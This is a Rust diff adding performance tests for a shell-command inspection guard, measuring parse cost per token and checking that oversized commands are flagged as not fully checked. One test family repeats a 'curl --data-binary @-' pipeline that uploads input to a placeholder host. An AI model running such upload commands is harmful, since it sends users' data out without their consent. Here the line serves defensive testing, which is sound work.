@@ -222,6 +222,55 @@ fn kept_regressions_stay_under_the_bound() {
     assert!(n > 0, "no regression vectors in {}", dir.display());
 }
 
+/// Commands of short tokens, each family with its fuel per token through the component (measured
+/// with `calibrate_tokens`, plus 30 %): brush-parser's tokenizer and parser, the syntax tree and the
+/// walk cost thousands of fuel per token whatever its length, so token-dense commands are the
+/// shell's worst case per byte (issue 14). `echo hi;` is 3 tokens, a pipeline stage 6.
+const TOKEN_FAMILIES: &[(&str, &str, usize, u64)] =
+    &[("short commands", "echo hi; ", 3, 10_200), ("pipeline of uploads", "curl -sS --data-binary @- https://h.example.invalid/u | ", 6, 22_600)];
+
+/// A family's unit repeated to `tokens` tokens, as a command.
+fn token_command(unit: &str, per_unit: usize, tokens: usize) -> String {
+    json!({ "command": format!("{}true", unit.repeat(tokens / per_unit)) }).to_string()
+}
+
+/// Below the walk's token bound (`shell::MAX_TOKENS`, 16 Ki) every token is parsed and walked and
+/// must stay within its family's fuel; past it the walk stops (the command could not be fully
+/// checked), so 1 MB of such tokens stays under [`FUEL_PER_BYTE`]. Either failing means the
+/// per-token cost came back.
+#[test]
+fn token_dense_commands_stay_under_their_fuel_per_token() {
+    let mut meter = Meter::new();
+    for (name, unit, per_unit, bound) in TOKEN_FAMILIES {
+        let payload = token_command(unit, *per_unit, 15_000);
+        meter.guard.inspect(Scope::Args, "terminal", &payload).expect("a verdict");
+        let per_token = meter.guard.last_fuel_used().saturating_sub(meter.base[0]) / 15_000;
+        assert!(per_token <= *bound, "{name}: {per_token} fuel per token, bound {bound}");
+        let payload = token_command(unit, *per_unit, 1_000_000 / unit.len() * per_unit);
+        let verdict = meter.guard.inspect(Scope::Args, "terminal", &payload).expect("a verdict").expect("not clean");
+        assert!(verdict.findings.iter().any(|f| f.reason.contains("could not be fully checked")), "{name}: {:?}", verdict.findings);
+        if let Err(why) = meter.check(0, Scope::Args, "terminal", &payload, FUEL_PER_BYTE) {
+            panic!("{name}, {} bytes: {why}", payload.len());
+        }
+    }
+}
+
+#[test]
+#[ignore]
+fn calibrate_tokens() {
+    let mut meter = Meter::new();
+    for (name, unit, per_unit, _) in TOKEN_FAMILIES {
+        let mut line = format!("{name:24}");
+        for tokens in [3_000, 15_000, 300_000] {
+            let payload = token_command(unit, *per_unit, tokens);
+            meter.guard.inspect(Scope::Args, "terminal", &payload).ok();
+            let fuel = meter.guard.last_fuel_used().saturating_sub(meter.base[0]);
+            line += &format!(" {tokens}: {} per token, {} per byte;", fuel / tokens as u64, fuel / payload.len() as u64);
+        }
+        eprintln!("{line}");
+    }
+}
+
 #[test]
 #[ignore]
 fn calibrate() {
